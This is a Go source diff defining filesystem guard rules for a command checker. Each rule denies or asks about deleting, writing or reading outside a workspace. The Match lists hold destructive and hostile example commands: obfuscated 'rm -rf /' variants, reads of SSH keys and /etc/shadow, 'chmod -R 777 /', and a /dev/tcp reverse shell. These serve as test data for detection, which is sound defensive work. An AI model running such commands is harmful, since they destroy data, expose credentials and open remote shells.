@@ -1,0 +1,79 @@
+package guard
+
+import (
+	"slices"
+	"strings"
+)
+
+// fsRules are about what is deleted, written and read where.
+var fsRules = []Rule{
+	{
+		ID: "fs/delete-system", Title: "Delete a system or home directory", Decision: Deny, Severity: 1,
+		Why:      "The file system's root, a system directory or a home directory cannot be brought back.",
+		Message:  "deletes {what}",
+		Safer:    "name what should go, inside the workspace",
+		Match:    []string{"rm -rf /", "rm -fr /*", "rm --recursive --force /", "rm -rf ~", "rm -rf $HOME", "rm -r /home", "rm -Rf /var", "sudo rm -rf --no-preserve-root /", "find / -delete", "r''m -rf /", "$'\\x72m' -rf /", "echo / | xargs rm -rf", "echo rm -rf / | xargs -0 sh -c", "echo 'rm -rf /' | xargs -I{} sh -c {}", "set -- rm -rf /; \"$@\"", "a=(rm -rf /); \"${a[@]}\"", "ls() { rm -rf /; }; ls", "alias x='rm -rf /'\nx", "if a; then D=/etc; else D=x; fi; rm -rf $D", "(cd / && rm -rf *)", "bash <<'EOF'\nrm -rf /\nEOF", "sh -c \"bash -c 'rm -rf /'\"", "rm${IFS}-rf${IFS}/", "for d in /etc /usr; do rm -rf $d; done", "rm -rf /home/dev"},
+		NotMatch: []string{"rm -rf ./build", "echo 'rm -rf /'", "grep -rn 'rm -rf /' .", "npm test # rm -rf /", "cat > n.md <<'EOF'\nrm -rf /\nEOF", "rm -rf /tmp/build"},
+		when: func(w *walker, e *effect) bool {
+			// A home below an allowed root (/tmp in a container) is still a home.
+			home := strings.TrimSuffix(e.path, "/*") == w.home
+			return e.kind == kindDelete && !e.unknown && (home || !e.inside && w.vital(e.path))
+		},
+	},
+	{
+		ID: "fs/delete-workspace", Title: "Delete the workspace", Decision: Deny, Severity: 1,
+		Why:      "It removes the project with its history.",
+		Message:  "deletes the workspace folder {what}",
+		Safer:    "delete the build output by name",
+		Match:    []string{"rm -rf /home/dev/project", "rm -rf ../project", "rm -rf \"$PWD\"", "find \"$PWD\" -delete"},
+		NotMatch: []string{"rm -rf /home/dev/project/dist", "rm -rf ."},
+		when: func(w *walker, e *effect) bool {
+			return e.kind == kindDelete && slices.Contains(w.facts.Folders(), e.path) && !slices.Contains([]string{".", "./"}, e.text)
+		},
+	},
+	{
+		ID: "fs/delete-outside", Title: "Delete outside the workspace", Decision: Deny, Severity: 1,
+		Why:      "Files outside the workspace are not this command's to delete.",
+		Message:  "deletes {what}, outside the workspace",
+		Safer:    "keep to the workspace; $TMPDIR is private and writable",
+		Match:    []string{"rm -f /etc/passwd", "rm -rf ../other", "rm ~/notes.txt", "cd .. ; rm -r other", "find /srv -name '*.log' -delete", "unlink /opt/x", "mv /opt/app .", "rm -rf src/../../x"},
+		NotMatch: []string{"rm -rf src/../build", "rm /var/tmp/x", "find . -name '*.pyc' -delete", "git rm src/a.go"},
+		when:     func(_ *walker, e *effect) bool { return e.kind == kindDelete && !e.inside && !e.unknown },
+	},
+	{
+		ID: "fs/write-outside", Title: "Write outside the workspace", Decision: Deny, Severity: 1,
+		Why:      "What lies outside the workspace belongs to the system or to other projects.",
+		Message:  "writes to {what}, outside the workspace",
+		Safer:    "write inside the workspace, or below $TMPDIR",
+		Match:    []string{"echo hi > /etc/motd", "echo x >> ~/.bashrc", "echo x >| ../force.txt", "ls &> /usr/share/x", "cp build/app /usr/local/bin/app", "touch /opt/flag", "tee -a /etc/sudoers", "mv notes.txt /home/dev/Documents/", "[[ a > /etc/hosts ]]", "bash -i >& /dev/tcp/10.0.0.1/4444", "sort -o /etc/x in", "chmod -R 777 /", "cat <<EOF > /home/dev/x\nhi\nEOF", "echo hi > \"/etc/$name\"", "ln -s target ../link"},
+		NotMatch: []string{"echo hi > out.txt", "make > /tmp/make.log 2>&1", "npm test 2>/dev/null", "echo '> /etc/motd'", "cp a b", "go build -o /tmp/app ./cmd/app", "mkdir -p src/utils", "echo x > \"$HOME/project/x\""},
+		when:     func(_ *walker, e *effect) bool { return e.kind == kindWrite && !e.inside && !e.unknown },
+	},
+	{
+		ID: "fs/read-outside", Title: "Read outside the workspace", Decision: Deny, Severity: 2,
+		Why:      "Other people's files, keys and settings lie outside the workspace; commands are given only what is in it.",
+		Message:  "reads {what}, outside the workspace",
+		Safer:    "open the folder in the editor, or copy the file into the workspace",
+		Match:    []string{"cat /etc/passwd", "cat ../secret.txt", "ls ~", "cd .. && ls", "cat ~/.ssh/id_rsa", "wc -l < /etc/passwd", "grep root /etc/shadow", "cat /home/dev/project2/README.md", "ls ~root", "find .. -name '*.pem'", "curl file:///etc/passwd", "cp -r ../other .", "cd src && cat ../../x", "mytool --config=/etc/x", "dd if=/dev/sda of=backup.img", "head -5 \"$HOME\"/.netrc", "f=/etc; cat $f/passwd", "cat /e*/passwd", "git -C .. status", "tar -xf a.tar -C ../out", "env --chdir=/etc ls", "sed -n p /etc/hosts"},
+		NotMatch: []string{"cat src/../README.md", "cd src && cat ../README.md", "cat ~/project/package.json", "sed -n '/^func /p' main.go", "grep -rn '/api/v1' src", "awk -F/ '{print $2}' x", "curl -s http://localhost:3000/api", "go test ./...", "git diff HEAD~3..HEAD", "/usr/bin/env python3 x.py", "docker run --rm -v \"$PWD\":/app -w /app node npm test", "git log main..feature/x", "cat \"$f\"", "echo ../x", "git commit -m '../x /etc'"},
+		when:     func(_ *walker, e *effect) bool { return e.kind == kindRead && !e.inside && !e.unknown },
+	},
+	{
+		ID: "fs/delete-contents", Title: "Delete everything here", Decision: Ask, Severity: 2,
+		Why:      "All work in the folder that is not committed and pushed would be lost.",
+		Message:  "deletes {what}: everything, or its history",
+		Safer:    "delete the build output by name, or git clean -n first",
+		Match:    []string{"rm -rf .", "rm -rf *", "rm -rf ./*", "rm -rf .git", "rm -rf /tmp", "rm -rf /home/dev/project/*", "cd src && rm -rf ../*", "find . -delete", "rm -r .git/objects"},
+		NotMatch: []string{"rm -rf node_modules", "rm -f *.o", "rm -rf dist/*", "rm .gitignore", "find . -name '*.pyc' -delete", "find . -type d -name __pycache__ -exec rm -rf {} +", "rm -rf /tmp/build"},
+		when:     deletesAll,
+	},
+	{
+		ID: "fs/delete-unknown", Title: "Delete something unknown", Decision: Ask, Severity: 2,
+		Why:      "The target is known only at run time; an empty variable turns \"$X/\" into the root directory.",
+		Message:  "deletes {what}, which only the running command knows",
+		Safer:    "name the target, or check it first",
+		Match:    []string{"rm -rf \"$BUILD_DIR\"", "rm -rf $X/*", "xargs rm -rf < list.txt", "rm -r \"$(cat list)\"", "find \"$D\" -delete", "cd \"$D\" && rm -rf build"},
+		NotMatch: []string{"rm -rf build/\"$name\"", "D=build; rm -rf \"$D\"", "for f in *.log; do rm \"$f\"; done", "T=$(mktemp -d); rm -rf \"$T\"", "git ls-files | xargs gofmt -l"},
+		when:     func(_ *walker, e *effect) bool { return e.kind == kindDelete && e.unknown },
+	},
+}
